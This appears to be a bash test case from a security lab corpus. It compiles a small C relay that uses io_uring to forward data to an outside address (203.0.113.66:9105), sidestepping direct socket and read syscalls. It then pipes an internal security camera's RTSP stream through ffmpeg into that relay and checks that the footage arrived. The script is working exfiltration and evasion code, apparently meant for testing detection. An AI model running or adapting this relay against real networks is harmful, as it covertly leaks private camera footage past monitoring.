#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay half=report tool=ffmpeg,gcc camera=10.20.0.11 far=out ready=out:9105 seconds=34 parts=dns,camera-gate,recorder-gate,nas,outside-web before=yes
# ffmpeg writes gate into a pipe; a small program reads it and sends it outside by io_uring alone, without a call of its own for either.
if [ "$1" = before ]; then
	gcc -O2 -o "$LAB/carry" -x c - -luring <<'END'
#include <arpa/inet.h>
#include <liburing.h>
#include <unistd.h>
static struct io_uring ring;
static int done(void)
{
	struct io_uring_cqe *cqe;
	io_uring_submit(&ring);
	io_uring_wait_cqe(&ring, &cqe);
	int n = cqe->res;
	io_uring_cqe_seen(&ring, cqe);
	return n;
}
int main(void)
{
	static char data[65536];
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9105)};
	inet_pton(AF_INET, "203.0.113.66", &to.sin_addr);
	io_uring_queue_init(8, &ring, 0);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	io_uring_prep_connect(io_uring_get_sqe(&ring), s, (struct sockaddr *)&to, sizeof(to));
	if (done())
		return 1;
	for (;;) {
		io_uring_prep_read(io_uring_get_sqe(&ring), 0, data, sizeof(data), 0);
		int n = done();
		if (n <= 0)
			return n < 0;
		for (int at = 0; at < n;) {
			io_uring_prep_send(io_uring_get_sqe(&ring), s, data + at, n - at, 0);
			int m = done();
			if (m <= 0)
				return 1;
			at += m;
		}
	}
}
END
	exit
fi
if [ "$1" = out ]; then exec timeout 60 socat -u TCP-LISTEN:9105,bind=203.0.113.66,reuseaddr "CREATE:$LAB/got"; fi
timeout 40 ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -t 30 -c copy -f mpegts pipe:1 | timeout 42 "$LAB/carry"
sleep 1; [ "$(stat -c %s "$LAB/got")" -gt 500000 ]
